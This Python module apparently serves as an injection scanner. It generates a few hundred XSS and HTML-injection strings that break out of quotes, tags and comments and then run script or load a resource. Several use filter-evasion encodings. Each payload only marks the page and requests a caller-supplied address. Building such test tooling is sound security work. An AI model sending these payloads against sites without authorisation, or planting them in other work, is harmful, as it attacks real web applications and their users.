"""Texts that run a script, or ask a server, in any page that takes one in as it is."""

import itertools
from collections.abc import Iterator
from urllib.parse import quote

HIT = "document.documentElement.dataset.hit=1;new Image().src='{to}?js'"
"""What each script does: it leaves a mark in the page and asks the server *to*."""
_BREAKS = (
    "",
    '">',
    "'>",
    "</p>",
    "</title>",
    "</style>",
    "</textarea>",
    "-->",
    "]]>",
    '" ',
    "&quot;>",
    "\x00>",
)
_RUNS = (
    "<script>{js}</script>",
    "<ScRiPt/x>{js}</sCrIpT >",
    "<script src={to}?src></script>",
    "<img src=x onerror={quoted}>",
    "<img/src/onerror={quoted}>",
    "<svg onload={quoted}>",
    "<svg><script>{js}</script></svg>",
    "<svg><animate onbegin={quoted} attributeName=x dur=1s>",
    "<body onload={quoted}>",
    "<iframe src={address}></iframe>",
    "<iframe srcdoc='&lt;img src={to}?frame&gt;'></iframe>",
    "<input autofocus onfocus={quoted}>",
    "<details open ontoggle={quoted}>x</details>",
    "<video src=x onerror={quoted}></video>",
    "<object data={address}></object>",
    "<embed src={address}>",
    "<math><mtext><img src=x onerror={quoted}></mtext></math>",
    "<template><img src=x></template><img src=x onerror={quoted}>",
    "<noscript><p title='</noscript><img src=x onerror={quoted}>'>",
    "<style>@keyframes x{{}}</style><b style='animation:x 1s' onanimationend={quoted}>",
)
_ASKS = (
    "<img src={to}?img>",
    "<img srcset='{to}?set 1x'>",
    "<link rel=stylesheet href={to}?css>",
    "<style>@import '{to}?import';</style>",
    "<p style='background:url({to}?style)'>x</p>",
    "<meta http-equiv=refresh content='0;url={to}?meta'>",
    "<base href={to}?base/>",
    "<video poster={to}?poster></video>",
    "<audio src={to}?audio autoplay></audio>",
    "<table background={to}?table><tr><td>x</table>",
    "<input type=image src={to}?input>",
    "<body background={to}?body>",
)
_ELSEWHERE = (
    'x" onmouseover="{js}',
    'x" style="background:url({to}?attribute)',
    "x' autofocus onfocus='{js}",
    "javascript:{js}",
    "data:text/html,<script>{js}</script>",
    "{{{{constructor.constructor(`{js}`)()}}}}",
    "{{% raw %}}<img src={to}?template>{{% endraw %}}",
    "&lt;img src={to}?twice&gt;",
    "%3Cimg src={to}?percent%3E",
    "+ADw-img src={to}?seven+AD4-",
    "\uff1cimg src={to}?wide\uff1e",
    "<<img src={to}?double>>",
    "<img src={to}?unclosed ",
    "<\u200bscript>{js}</script>",
)


def scripts(to: str) -> Iterator[str]:
    """Yield a few hundred texts; those that work ask the address *to*."""
    js = HIT.format(to=to)
    forms = {
        "to": to,
        "js": js,
        "quoted": f'"{js}"',
        "address": f'"data:text/html,{quote(f"<img src={to}?frame>")}"',
    }
    for before, text in itertools.product(_BREAKS, (*_RUNS, *_ASKS)):
        yield before + text.format(**forms)
    for text in _ELSEWHERE:
        yield text.format(**forms)
